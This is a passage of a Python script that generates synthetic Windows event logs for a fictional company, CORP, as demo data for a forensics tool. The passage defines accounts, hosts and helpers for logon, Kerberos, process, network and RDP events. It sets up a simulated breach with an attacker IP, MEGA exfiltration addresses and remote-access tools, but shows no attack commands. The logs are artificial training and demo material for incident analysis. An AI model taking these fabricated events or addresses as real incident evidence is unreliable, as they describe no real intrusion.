#!/usr/bin/env python3
"""Generate inari's demo data: three days of Windows event logs of a small company
(domain CORP) with the first breach of docs/DESIGN.md played into them.

    python3 demo/make_demo.py            # writes demo/data/ (deterministic)
    python3 demo/make_demo.py --out DIR  # somewhere else

Python 3 standard library only. Everything comes from one seeded random.Random and
fixed clock values, files are written with fixed key order and gzip mtime 0, so a
run reproduces demo/data/ byte for byte.

Files (the shapes inari reads, split the way collections come in):
    dc01-security.jsonl     DC01 Security log, evtx_dump / Hayabusa JSON shape
    fs01-evtx.jsonl         FS01 Security, System, TerminalServices logs, evtx_dump shape
    sql01-evtx.jsonl        SQL01 the same
    ws-winlogbeat.jsonl.gz  WS01..WS12 Security, System, Sysmon, TerminalServices via
                            Winlogbeat 8 (ECS), gzipped
    servers-sysmon.jsonl    Sysmon of DC01, FS01, SQL01 via nxlog/Logstash (flat, OTRF-like)
    GROUND_TRUTH.md         what happened: timeline, accounts, hosts, look-alikes
"""

import argparse
import datetime as dt
import gzip
import io
import json
import os
import random

SEED = 20250311
UTC = dt.timezone.utc
START = dt.datetime(2025, 3, 11, 0, 0, 0, tzinfo=UTC)     # Tuesday
DAYS = 3
LOCAL_OFFSET = dt.timedelta(hours=1)                       # CET, company local time
DOMAIN = "CORP"
DNS_DOMAIN = "corp.local"
REALM = "CORP.LOCAL"

R = random.Random(SEED)

# ---------------------------------------------------------------------------
# identities
# ---------------------------------------------------------------------------

DOMAIN_SID = "S-1-5-21-%d-%d-%d" % (R.randint(10**9, 4 * 10**9), R.randint(10**9, 4 * 10**9),
                                     R.randint(10**8, 10**9))

ATTACKER_IP = "185.243.115.84"
ATTACKER_CLIENT = "DESKTOP-7QK2M1L"
HOME_IP_OKAFOR = "84.151.22.187"
MEGA_API_IP = "66.203.125.11"
MEGA_STORAGE_IPS = ["31.216.148.%d" % n for n in (11, 12, 24, 31)] + ["31.216.147.135"]
ANYDESK_RELAY_IP = "195.181.174.203"
ANYDESK_DOWNLOAD_IP = "151.101.2.133"
RCLONE_DOWNLOAD_IP = "95.217.6.16"
SEVENZIP_DOWNLOAD_IP = "159.65.89.65"
TEAMVIEWER_ROUTER_IPS = ["217.146.21.33", "217.146.11.129", "37.252.227.81"]


class Account:
    def __init__(self, sam, full, rid, dept=None, ws=None, admin=False, kind="user"):
        self.sam, self.full, self.rid, self.dept, self.ws = sam, full, rid, dept, ws
        self.admin, self.kind = admin, kind
        self.sid = "%s-%d" % (DOMAIN_SID, rid)
        self.upn = "%s@%s" % (sam, DNS_DOMAIN)


USERS = [
    Account("m.keller", "Martin Keller", 1104, "Finance", "WS01"),
    Account("s.novak", "Sofia Novak", 1105, "Sales", "WS02"),
    Account("d.okafor", "David Okafor", 1106, "Sales (field, works remotely)", "WS03"),
    Account("l.fischer", "Laura Fischer", 1107, "HR", "WS04"),
    Account("j.martens", "Jonas Martens", 1108, "Engineering", "WS05"),
    Account("a.rossi", "Alessia Rossi", 1109, "Engineering", "WS06"),
    Account("k.yilmaz", "Kerem Yilmaz", 1110, "Customer support", "WS07"),
    Account("e.schmidt", "Eva Schmidt", 1111, "Office management", "WS08"),
    Account("r.haddad", "Rami Haddad", 1112, "Finance", "WS09"),
    Account("n.larsen", "Nina Larsen", 1113, "Marketing", "WS10"),
    Account("c.dubois", "Claire Dubois", 1114, "Managing director", "WS11"),
    Account("t.brandt", "Tobias Brandt", 1115, "IT helpdesk", "WS12"),
]
ADM_TBRANDT = Account("adm.tbrandt", "Tobias Brandt (admin)", 1116, "IT helpdesk", admin=True,
                      kind="admin")
SVC_BACKUP = Account("svc_backup", "Backup service", 1117, admin=True, kind="service")
SVC_SQL = Account("svc_sql", "SQL Server service", 1118, kind="service")
SVC_SCAN = Account("svc_scan", "Scanner (MFP)", 1119, kind="service")
ALL_ACCOUNTS = USERS + [ADM_TBRANDT, SVC_BACKUP, SVC_SQL, SVC_SCAN]
BY_SAM = {a.sam: a for a in ALL_ACCOUNTS}

SYSTEM_SID, LOCAL_SERVICE_SID, NETWORK_SERVICE_SID = "S-1-5-18", "S-1-5-19", "S-1-5-20"


class Host:
    def __init__(self, name, ip, kind, os_name, build, rid):
        self.name, self.ip, self.kind = name, ip, kind
        self.fqdn = "%s.%s" % (name, DNS_DOMAIN)
        self.os_name, self.build = os_name, build
        self.machine_sid = "%s-%d" % (DOMAIN_SID, rid)
        self.lsass_pid = R.randrange(600, 900, 4)
        self.sysmon_pid = R.randrange(2400, 4200, 4)
        self.services_pid = self.lsass_pid - R.randrange(8, 40, 4)
        self.svchost_ts_pid = R.randrange(1000, 1400, 4)     # TermService svchost
        self.svchost_lsm_pid = R.randrange(900, 1000, 4)
        self.svchost_sched_pid = R.randrange(1400, 1800, 4)
        self.svchost_seclogon_pid = R.randrange(5000, 6000, 4)
        self.guid_prefix = "%08X" % R.getrandbits(32)
        self.logon_id = 0x3e7 + R.randrange(0x40000, 0x90000)
        self.mac = "00-15-5D-%02X-%02X-%02X" % (R.getrandbits(8), R.getrandbits(8), R.getrandbits(8))
        self.agent_id = uuid4()
        self.ephemeral_id = uuid4()
        self.host_id = uuid4()
        self.pid_next = R.randrange(2000, 4000, 4)

    def new_logon_id(self):
        self.logon_id += R.randrange(0x800, 0x40000)
        return "0x%x" % self.logon_id

    def new_pid(self):
        self.pid_next += R.randrange(4, 400, 4)
        if self.pid_next > 30000:
            self.pid_next = R.randrange(1000, 3000, 4)
        return self.pid_next


def uuid4():
    b = bytearray(R.getrandbits(8) for _ in range(16))
    b[6] = (b[6] & 0x0F) | 0x40
    b[8] = (b[8] & 0x3F) | 0x80
    h = b.hex()
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def guid_upper():
    return "{%s}" % uuid4().upper()


WIN11 = ("Windows 11 Pro", "22631.3296")
WIN2022 = ("Windows Server 2022 Standard", "20348.2340")
DC01 = Host("DC01", "10.10.10.10", "dc", *WIN2022, rid=1000)
FS01 = Host("FS01", "10.10.10.20", "server", *WIN2022, rid=1101)
SQL01 = Host("SQL01", "10.10.10.30", "server", *WIN2022, rid=1102)
WORKSTATIONS = [Host("WS%02d" % i, "10.10.20.%d" % (50 + i), "ws", *WIN11, rid=1200 + i)
                for i in range(1, 13)]
HOSTS = [DC01, FS01, SQL01] + WORKSTATIONS
HOST = {h.name: h for h in HOSTS}
for _u in USERS:
    _u.host = HOST[_u.ws]
ADM_TBRANDT.host = HOST["WS12"]

# ---------------------------------------------------------------------------
# event model
# ---------------------------------------------------------------------------

SEC = ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D")
SYSMON = ("Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9")
SCM = ("Service Control Manager", "555908D1-A6D7-4695-8E1E-26931D2012F4")
LSM = ("Microsoft-Windows-TerminalServices-LocalSessionManager", "5D896912-022D-40AA-A3A8-4FA5515C76D7")
RCM = ("Microsoft-Windows-TerminalServices-RemoteConnectionManager",
       "C76BAA63-AE81-421C-B425-340B4B24157F")
CH_SEC = "Security"
CH_SYS = "System"
CH_SYSMON = "Microsoft-Windows-Sysmon/Operational"
CH_LSM = "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational"
CH_RCM = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational"

KW_SUCCESS = 0x8020000000000000
KW_FAILURE = 0x8010000000000000
KW_SYSMON = 0x8000000000000000
KW_CLASSIC = 0x80000000000000
KW_TS = 0x1000000000000000
KW_RCM = 0x4000000000000000

# (task, task name, version, message) per Security event
SEC_META = {
    4624: (12544, "Logon", 2, "An account was successfully logged on."),
    4625: (12544, "Logon", 0, "An account failed to log on."),
    4634: (12545, "Logoff", 0, "An account was logged off."),
    4647: (12545, "Logoff", 0, "User initiated logoff:"),
    4648: (12544, "Logon", 0, "A logon was attempted using explicit credentials."),
    4672: (12548, "Special Logon", 0, "Special privileges assigned to new logon."),
    4688: (13312, "Process Creation", 2, "A new process has been created."),
    4698: (12804, "Other Object Access Events", 1, "A scheduled task was created."),
    4768: (14339, "Kerberos Authentication Service", 0,
           "A Kerberos authentication ticket (TGT) was requested."),
    4769: (14337, "Kerberos Service Ticket Operations", 0, "A Kerberos service ticket was requested."),
    4771: (14339, "Kerberos Authentication Service", 0, "Kerberos pre-authentication failed."),
    4776: (14336, "Credential Validation", 0,
           "The computer attempted to validate the credentials for an account."),
    4778: (12551, "Other Logon/Logoff Events", 0, "A session was reconnected to a Window Station."),
    4779: (12551, "Other Logon/Logoff Events", 0, "A session was disconnected from a Window Station."),
    5140: (12808, "File Share", 1, "A network share object was accessed."),
    5145: (12811, "Detailed File Share", 0,
           "A network share object was checked to see whether client can be granted desired access."),
}
SYSMON_META = {
    1: (5, "Process Create (rule: ProcessCreate)", "Process Create:"),
    3: (5, "Network connection detected (rule: NetworkConnect)", "Network connection detected:"),
    11: (2, "File created (rule: FileCreate)", "File created:"),
}

EVENTS = []
_seq = [0]


class Event:
    """One Windows event, format-neutral. `data` holds EventData (values typed the
    way the manifest types them: int for UInt*, "0x.." strings for HexInt*, bool
    for Boolean, str otherwise); `user_data` is (element, xmlns, dict) or None."""

    def __init__(self, t, host, channel, provider, eid, data=None, version=0, level=0, task=0,
                 opcode=0, keywords=0, pid=None, tid=None, user_sid=None, user_data=None,
                 qualifiers=None, message="", activity_id=None, tags=()):
        _seq[0] += 1
        self.seq = _seq[0]
        self.t, self.host, self.channel, self.provider, self.eid = t, host, channel, provider, eid
        self.data, self.user_data = data, user_data
        self.version, self.level, self.task, self.opcode, self.keywords = (
            version, level, task, opcode, keywords)
        self.pid = pid if pid is not None else host.lsass_pid
        self.tid = tid if tid is not None else R.randrange(100, 9000, 4)
        self.user_sid, self.qualifiers, self.message = user_sid, qualifiers, message
        self.activity_id = activity_id
        self.tags = tags
        self.record_id = None
        EVENTS.append(self)


def at(day, hh, mm=0, ss=0.0):
    """UTC time on demo day `day` (0..2)."""
    return START + dt.timedelta(days=day, hours=hh, minutes=mm, seconds=ss)


def jitter(t, seconds):
    return t + dt.timedelta(seconds=R.uniform(0, seconds))


def later(t, lo, hi):
    return t + dt.timedelta(seconds=R.uniform(lo, hi))


def sec(t, host, eid, data, keywords=KW_SUCCESS, tags=(), activity=False):
    task, _, version, message = SEC_META[eid]
    return Event(t, host, CH_SEC, SEC, eid, data, version=version, task=task, keywords=keywords,
                 message=message, tags=tags, activity_id=guid_upper() if activity else None)


# ---------------------------------------------------------------------------
# building blocks: authentication
# ---------------------------------------------------------------------------

IMPERSONATION = "%%1833"
YES, NO = "%%1842", "%%1843"
ADMIN_PRIVS = "\r\n\t\t\t".join([
    "SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeTakeOwnershipPrivilege",
    "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege",
    "SeImpersonatePrivilege", "SeDelegateSessionUserImpersonatePrivilege",
    "SeEnableDelegationPrivilege"])
MACHINE_PRIVS = "\r\n\t\t\t".join([
    "SeSecurityPrivilege", "SeBackupPrivilege", "SeRestorePrivilege", "SeTakeOwnershipPrivilege",
    "SeDebugPrivilege", "SeSystemEnvironmentPrivilege", "SeLoadDriverPrivilege",
    "SeImpersonatePrivilege", "SeEnableDelegationPrivilege"])


def machine_account(host):
    return "%s$" % host.name


def logon(t, host, acct, ltype, ip="-", port="0", workstation="-", package="Kerberos",
          process="-", process_id="0x0", subject_system=False, elevated=None, tags=(),
          linked="0x0"):
    """4624 (+ 4672 for admins). `acct` is an Account or a (name, sid) tuple for
    machine accounts. Returns the new logon id."""
    name, sid = (acct.sam, acct.sid) if isinstance(acct, Account) else acct
    is_admin = isinstance(acct, Account) and acct.admin
    lid = host.new_logon_id()
    if package == "Kerberos":
        lproc, auth, guid = "Kerberos", "Kerberos", guid_upper()
    elif package == "NTLM":
        lproc, auth, guid = "NtLmSsp ", "NTLM", "{00000000-0000-0000-0000-000000000000}"
    else:  # interactive / remote interactive / service
        lproc, auth, guid = package, "Negotiate", guid_upper()
    if subject_system:
        subj = (SYSTEM_SID, machine_account(host), DOMAIN, "0x3e7")
    else:
        subj = ("S-1-0-0", "-", "-", "0x0")
    if elevated is None:
        elevated = is_admin or ltype in (0, 5) or (isinstance(acct, tuple))
    data = {
        "SubjectUserSid": subj[0], "SubjectUserName": subj[1], "SubjectDomainName": subj[2],
        "SubjectLogonId": subj[3], "TargetUserSid": sid, "TargetUserName": name,
        "TargetDomainName": DOMAIN, "TargetLogonId": lid, "LogonType": ltype,
        "LogonProcessName": lproc, "AuthenticationPackageName": auth,
        "WorkstationName": workstation, "LogonGuid": guid, "TransmittedServices": "-",
        "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
        "KeyLength": 128 if package == "NTLM" else 0,
        "ProcessId": process_id, "ProcessName": process, "IpAddress": ip, "IpPort": port,
        "ImpersonationLevel": IMPERSONATION, "RestrictedAdminMode": NO if ltype == 10 else "-",
        "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-", "VirtualAccount": NO,
        "TargetLinkedLogonId": linked, "ElevatedToken": YES if elevated else NO,
    }
    sec(t, host, 4624, data, tags=tags)
    if is_admin:
        sec(later(t, 0, 0.01), host, 4672, {
            "SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": DOMAIN,
            "SubjectLogonId": lid, "PrivilegeList": ADMIN_PRIVS}, tags=tags)
    return lid


def logoff(t, host, acct, lid, ltype, user_initiated=False, tags=()):
    name, sid = (acct.sam, acct.sid) if isinstance(acct, Account) else acct
    if user_initiated:
        sec(t, host, 4647, {"TargetUserSid": sid, "TargetUserName": name,
                            "TargetDomainName": DOMAIN, "TargetLogonId": lid}, tags=tags)
        t = later(t, 0.5, 3)
    sec(t, host, 4634, {"TargetUserSid": sid, "TargetUserName": name, "TargetDomainName": DOMAIN,
                        "TargetLogonId": lid, "LogonType": ltype}, tags=tags)


def failed_logon(t, host, name, ip, workstation, substatus, tags=()):
    sec(t, host, 4625, {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
        "SubjectLogonId": "0x0", "TargetUserSid": "S-1-0-0", "TargetUserName": name,
        "TargetDomainName": "" if "\\" in name else DOMAIN, "Status": "0xc000006d",
        "FailureReason": "%%2313", "SubStatus": substatus, "LogonType": 3,
        "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
        "WorkstationName": workstation, "TransmittedServices": "-", "LmPackageName": "-",
        "KeyLength": 0, "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ip, "IpPort": "0"},
        keywords=KW_FAILURE, tags=tags)


def dc_ip(ip):
    return "::ffff:%s" % ip if ip not in ("-", "::1") else ip


def kerberos_tgt(t, acct, client_ip, status="0x0", tags=()):
    name, sid = (acct.sam, acct.sid) if isinstance(acct, Account) else acct
    sec(t, DC01, 4768, {
        "TargetUserName": name, "TargetDomainName": REALM,
        "TargetSid": sid, "ServiceName": "krbtgt", "ServiceSid": "%s-502" % DOMAIN_SID,
        "TicketOptions": "0x40810010", "Status": status, "TicketEncryptionType": "0x12",
        "PreAuthType": "2", "IpAddress": dc_ip(client_ip), "IpPort": str(R.randrange(49152, 65000)),
        "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": ""},
        keywords=KW_SUCCESS if status == "0x0" else KW_FAILURE, tags=tags)


def service_ticket(t, acct, service_host, client_ip, spn_service="cifs", tags=()):
    name = acct.sam if isinstance(acct, Account) else acct[0]
    if spn_service == "MSSQLSvc":   # the SPN is registered on the SQL Server service account
        service_name, service_sid = SVC_SQL.sam, SVC_SQL.sid
    else:
        service_name, service_sid = machine_account(service_host), service_host.machine_sid
    sec(t, DC01, 4769, {
        "TargetUserName": "%s@%s" % (name, REALM), "TargetDomainName": REALM,
        "ServiceName": service_name, "ServiceSid": service_sid, "TicketOptions": "0x40810000",
        "TicketEncryptionType": "0x12", "IpAddress": dc_ip(client_ip),
        "IpPort": str(R.randrange(49152, 65000)), "Status": "0x0", "LogonGuid": guid_upper(),
        "TransmittedServices": "-"}, tags=tags)


def ntlm_validate(t, name, workstation, status="0x0", tags=()):
    sec(t, DC01, 4776, {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                        "TargetUserName": name, "Workstation": workstation, "Status": status},
        keywords=KW_SUCCESS if status == "0x0" else KW_FAILURE, tags=tags)


def share_access(t, host, acct, lid, src_ip, share, local_path, targets=(), tags=(),
                 access="0x1", access_list="%%4416"):
    name, sid = (acct.sam, acct.sid) if isinstance(acct, Account) else acct
    port = str(R.randrange(49152, 65000))
    subject = {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": DOMAIN,
               "SubjectLogonId": lid, "ObjectType": "File", "IpAddress": src_ip, "IpPort": port,
               "ShareName": "\\\\*\\%s" % share, "ShareLocalPath": local_path}
    d = dict(subject)
    d.update({"AccessMask": "0x1", "AccessList": "%%4416\r\n\t\t\t\t"})
    sec(t, host, 5140, d, tags=tags)
    for rel in targets:
        t = later(t, 0.01, 2)
        d = dict(subject)
        d.update({"RelativeTargetName": rel, "AccessMask": access,
                  "AccessList": access_list + "\r\n\t\t\t\t",
                  "AccessReason": "-"})
        sec(t, host, 5145, d, tags=tags)
    return t


# ---------------------------------------------------------------------------
# building blocks: processes, network, files, services, RDP
# ---------------------------------------------------------------------------

IMAGES = {}  # image path -> (description, product, company, original, version, sha256)


def image_meta(image):
    if image not in IMAGES:
        base = image.rsplit("\\", 1)[-1]
        known = {
            "AnyDesk.exe": ("AnyDesk", "AnyDesk", "philandro Software GmbH", "AnyDesk.exe", "8.0.8"),
            "rclone.exe": ("Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe",
                           "1.65.2"),
            "7zr.exe": ("7-Zip Reduced Standalone Console", "7-Zip", "Igor Pavlov", "7zr.exe",
                        "23.01"),
            "Rar.exe": ("Command line RAR", "WinRAR", "Alexander Roshal", "Rar.exe", "6.24.0"),
            "TeamViewer.exe": ("TeamViewer", "TeamViewer", "TeamViewer Germany GmbH",
                               "TeamViewer.exe", "15.51.5"),
            "TeamViewer_Service.exe": ("TeamViewer", "TeamViewer", "TeamViewer Germany GmbH",
                                       "TeamViewer_Service.exe", "15.51.5"),
            "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC", "chrome.exe",
                           "122.0.6261.112"),
            "CorpCRM.exe": ("CorpCRM client", "CorpCRM", "CORP", "CorpCRM.exe", "4.2.1.0"),
            "sqlcmd.exe": ("T-SQL execution command line utility", "Microsoft SQL Server",
                           "Microsoft Corporation", "sqlcmd.exe", "2019.150.2000.5"),
        }.get(base)
        if known is None:
            ms = image.lower().startswith(("c:\\windows\\", "c:\\program files\\microsoft",
                                           "c:\\program files (x86)\\microsoft"))
            known = (base.rsplit(".", 1)[0], "Microsoft® Windows® Operating System" if ms else base,
                     "Microsoft Corporation" if ms else "-", base.upper() if ms else base,
                     "10.0.22621.3296 (WinBuild.160101.0800)" if ms else "-")
        sha256 = "%064X" % R.getrandbits(256)
        IMAGES[image] = known + (sha256,)
    return IMAGES[image]


class Proc:
    def __init__(self, host, pid, guid, image, cmdline, user, lid, integrity):
        self.host, self.pid, self.guid, self.image, self.cmdline = host, pid, guid, image, cmdline
        self.user, self.lid, self.integrity = user, lid, integrity


def sysmon_guid(host, t):
    ts = int(t.timestamp())
    return "{%s-%04X-%04X-%04X-%012X}" % (host.guid_prefix, ts & 0xFFFF, ts >> 16,
                                          R.getrandbits(16), R.getrandbits(20) << 8)


def sysmon_user(acct):
    if isinstance(acct, Account):
        return "%s\\%s" % (DOMAIN, acct.sam)
    return acct  # "NT AUTHORITY\\SYSTEM" etc.


def user_sid_of(acct):
    if isinstance(acct, Account):
        return acct.sid
    return {"NT AUTHORITY\\SYSTEM": SYSTEM_SID, "NT AUTHORITY\\LOCAL SERVICE": LOCAL_SERVICE_SID,
            "NT AUTHORITY\\NETWORK SERVICE": NETWORK_SERVICE_SID}[acct]


def boot_procs(host):
    """Long-running parents every host has (no events; started before the logs)."""
    t = START - dt.timedelta(days=2)
    mk = lambda img, cmd, user="NT AUTHORITY\\SYSTEM": Proc(
        host, host.new_pid(), sysmon_guid(host, t), img, cmd, user, "0x3e7", "System")
    host.p_services = Proc(host, host.services_pid, sysmon_guid(host, t),
                           "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
                           "NT AUTHORITY\\SYSTEM", "0x3e7", "System")
    host.p_sched = mk("C:\\Windows\\System32\\svchost.exe",
                      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
    host.p_sched.pid = host.svchost_sched_pid
    host.p_wmi = mk("C:\\Windows\\System32\\svchost.exe",
                    "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p")
    host.p_winlogon = mk("C:\\Windows\\System32\\winlogon.exe", "winlogon.exe")
    host.p_ts = mk("C:\\Windows\\System32\\svchost.exe",
                   "C:\\Windows\\System32\\svchost.exe -k NetworkService -s TermService",
                   "NT AUTHORITY\\NETWORK SERVICE")
    host.p_ts.pid = host.svchost_ts_pid
    host.p_seclogon = mk("C:\\Windows\\System32\\svchost.exe",
                         "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s seclogon")
    host.p_seclogon.pid = host.svchost_seclogon_pid
    host.p_teamviewer = mk("C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe",
                           "\"C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe\"")
    host.p_system = Proc(host, 4, "{%s-0000-0000-0000-000000000000}" % host.guid_prefix, "System",
                         "", "NT AUTHORITY\\SYSTEM", "0x3e7", "System")
    if host is SQL01:
        host.p_sql = mk("C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe",
                        "\"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe\" -sMSSQLSERVER",
                        SVC_SQL)
        host.p_sql.lid = "0x%x" % R.randrange(0x20000, 0x40000)
        host.p_sql.integrity = "High"


for _h in HOSTS:
    boot_procs(_h)


def process(t, host, user, image, cmdline, parent, lid=None, integrity="Medium", cwd=None,
            tags=(), security=True, token="%%1938"):
    """Process creation: Sysmon 1, and 4688 (command line auditing is on everywhere)."""
    pid = host.new_pid()
    guid = sysmon_guid(host, t)
    lid = lid or (parent.lid if parent else "0x3e7")
    p = Proc(host, pid, guid, image, cmdline, user, lid, integrity)
    desc, product, company, original, version, sha256 = image_meta(image)
    if cwd is None:
        cwd = ("C:\\Users\\%s\\" % user.sam) if isinstance(user, Account) else "C:\\Windows\\system32\\"
    parent_user = sysmon_user(parent.user) if parent else "NT AUTHORITY\\SYSTEM"
    Event(t, host, CH_SYSMON, SYSMON, 1, {
        "RuleName": "-", "UtcTime": sysmon_time(t), "ProcessGuid": guid, "ProcessId": pid,
        "Image": image, "FileVersion": version, "Description": desc, "Product": product,
        "Company": company, "OriginalFileName": original, "CommandLine": cmdline,
        "CurrentDirectory": cwd, "User": sysmon_user(user),
        "LogonGuid": "{%s-%04X-%04X-%04X-000000000000}" % (host.guid_prefix, R.getrandbits(16),
                                                           R.getrandbits(16), R.getrandbits(16)),
        "LogonId": lid, "TerminalSessionId": 0 if not isinstance(user, Account) else
        (getattr(user, "_session", {}).get(host.name, 1)),
        "IntegrityLevel": integrity,
        "Hashes": "SHA1=%040X,MD5=%032X,SHA256=%s,IMPHASH=%032X" % (
            R.getrandbits(160), R.getrandbits(128), sha256, R.getrandbits(128)),
        "ParentProcessGuid": parent.guid if parent else "{00000000-0000-0000-0000-000000000000}",
        "ParentProcessId": parent.pid if parent else 0,
        "ParentImage": parent.image if parent else "-",
        "ParentCommandLine": parent.cmdline if parent else "-",
        "ParentUser": parent_user,
    }, version=5, level=4, task=1, keywords=KW_SYSMON, pid=host.sysmon_pid, user_sid=SYSTEM_SID,
        message=SYSMON_META[1][2], tags=tags)
    if security:
        if isinstance(user, Account):
            subj = (user.sid, user.sam, DOMAIN, lid)
        else:
            subj = (SYSTEM_SID, machine_account(host), DOMAIN, "0x3e7")
        sec(later(t, -0.002, 0), host, 4688, {
            "SubjectUserSid": subj[0], "SubjectUserName": subj[1], "SubjectDomainName": subj[2],
            "SubjectLogonId": subj[3], "NewProcessId": "0x%x" % pid, "NewProcessName": image,
            "TokenElevationType": token, "ProcessId": "0x%x" % (parent.pid if parent else 4),
            "CommandLine": cmdline, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
            "TargetDomainName": "-", "TargetLogonId": "0x0",
            "ParentProcessName": parent.image if parent else "",
            "MandatoryLabel": {"Low": "S-1-16-4096", "Medium": "S-1-16-8192",
                               "High": "S-1-16-12288", "System": "S-1-16-16384"}[integrity]},
            tags=tags)
    return p


def sysmon_time(t):
    return t.strftime("%Y-%m-%d %H:%M:%S.") + "%03d" % (t.microsecond // 1000)


def netconn(t, proc, dst_ip, dst_port, dst_host="", initiated=True, src_ip=None, src_port=None,
            tags=()):
    host = proc.host
    src_ip = src_ip or host.ip
    if src_port is None:
        src_port = R.randrange(49152, 65535)
    port_names = {443: "https", 80: "http", 445: "microsoft-ds", 3389: "ms-wbt-server",
                  1433: "ms-sql-s", 389: "ldap", 88: "kerberos", 5938: ""}
    local_is_src = initiated
    Event(t, host, CH_SYSMON, SYSMON, 3, {
        "RuleName": "-", "UtcTime": sysmon_time(t), "ProcessGuid": proc.guid, "ProcessId": proc.pid,
        "Image": proc.image, "User": sysmon_user(proc.user), "Protocol": "tcp",
        "Initiated": initiated, "SourceIsIpv6": False, "SourceIp": src_ip,
        "SourceHostname": host.fqdn if local_is_src else "-", "SourcePort": src_port,
        "SourcePortName": "-", "DestinationIsIpv6": False, "DestinationIp": dst_ip,
        "DestinationHostname": dst_host or "-", "DestinationPort": dst_port,
        "DestinationPortName": port_names.get(dst_port, "-") or "-",
    }, version=5, level=4, task=3, keywords=KW_SYSMON, pid=host.sysmon_pid, user_sid=SYSTEM_SID,
        message=SYSMON_META[3][2], tags=tags)


def filecreate(t, proc, path, tags=()):
    Event(t, proc.host, CH_SYSMON, SYSMON, 11, {
        "RuleName": "-", "UtcTime": sysmon_time(t), "ProcessGuid": proc.guid,
        "ProcessId": proc.pid, "Image": proc.image, "TargetFilename": path,
        "CreationUtcTime": sysmon_time(t), "User": sysmon_user(proc.user),
    }, version=2, level=4, task=11, keywords=KW_SYSMON, pid=proc.host.sysmon_pid,
        user_sid=SYSTEM_SID, message=SYSMON_META[11][2], tags=tags)


def service_installed(t, host, name, image_path, account, user_sid, tags=()):
    Event(t, host, CH_SYS, SCM, 7045, {
        "ServiceName": name, "ImagePath": image_path, "ServiceType": "user mode service",
        "StartType": "auto start", "AccountName": account},
        level=4, keywords=KW_CLASSIC, pid=host.services_pid, user_sid=user_sid, qualifiers=16384,
        message="A service was installed in the system.", tags=tags)


def lsm(t, host, eid, acct, session, address=None, tags=()):
    d = {"User": "%s\\%s" % (DOMAIN, acct.sam), "SessionID": session}
    if address is not None:
        d["Address"] = address
    msgs = {21: "Remote Desktop Services: Session logon succeeded:",
            22: "Remote Desktop Services: Shell start notification received:",
            23: "Remote Desktop Services: Session logoff succeeded:",
            24: "Remote Desktop Services: Session has been disconnected:",
            25: "Remote Desktop Services: Session reconnection succeeded:"}
    Event(t, host, CH_LSM, LSM, eid, None, level=4, keywords=KW_TS, pid=host.svchost_lsm_pid,
          user_sid=SYSTEM_SID, user_data=("EventXML", "Event_NS", d), message=msgs[eid],
          activity_id=guid_upper(), tags=tags)


def rcm_1149(t, host, acct, address, tags=()):
    Event(t, host, CH_RCM, RCM, 1149, None, level=4, keywords=KW_RCM, pid=host.svchost_ts_pid,
          user_sid=NETWORK_SERVICE_SID,
          user_data=("EventXML", "Event_NS", {"Param1": acct.sam, "Param2": DOMAIN, "Param3": address}),
          message="Remote Desktop Services: User authentication succeeded:",
          activity_id=guid_upper(), tags=tags)


class RdpSession:
    pass


def rdp_logon(t, host, acct, src_ip, client_name, session_id, tags=(), package="Kerberos"):
    """Incoming RDP with NLA: 1149, 4624 type 3 (CredSSP), 4624 type 10, 4672, LSM 21/22."""
    s = RdpSession()
    s.host, s.acct, s.src_ip, s.client, s.session = host, acct, src_ip, client_name, session_id
    if src_ip.startswith("10.") and package == "Kerberos":
        t3_package, t3_ws = "Kerberos", "-"
    else:
        t3_package, t3_ws = "NTLM", client_name
    nla = logon(t, host, acct, 3, ip=src_ip, port="0", workstation=t3_ws, package=t3_package,
                tags=tags)
    t = later(t, 0.05, 0.3)
    rcm_1149(t, host, acct, src_ip, tags=tags)
    logoff(later(t, 0.2, 1), host, acct, nla, 3, tags=tags)
    t = later(t, 0.5, 2)
    linked = "0x0"
    s.lid = logon(t, host, acct, 10, ip=src_ip, port="0", workstation=host.name, package="User32 ",
                  process="C:\\Windows\\System32\\svchost.exe",
                  process_id="0x%x" % host.svchost_lsm_pid, subject_system=True, tags=tags)
    t = later(t, 0.3, 1.5)
    lsm(t, host, 21, acct, session_id, src_ip, tags=tags)
    t = later(t, 0.3, 1.5)
    lsm(t, host, 22, acct, session_id, src_ip, tags=tags)
    if not hasattr(acct, "_session"):
        acct._session = {}
    acct._session[host.name] = session_id
    s.t = t
    # processes of the new session
    s.userinit = process(later(t, 0.2, 0.6), host, acct, "C:\\Windows\\System32\\userinit.exe",
                         "C:\\Windows\\system32\\userinit.exe", host.p_winlogon, lid=s.lid,
                         integrity="High" if acct.admin else "Medium", tags=tags)
    s.explorer = process(later(t, 0.7, 1.5), host, acct, "C:\\Windows\\explorer.exe",
                         "C:\\Windows\\Explorer.EXE", s.userinit, lid=s.lid,
                         integrity="High" if acct.admin else "Medium", tags=tags)
    s.t = later(t, 2, 4)
    return s


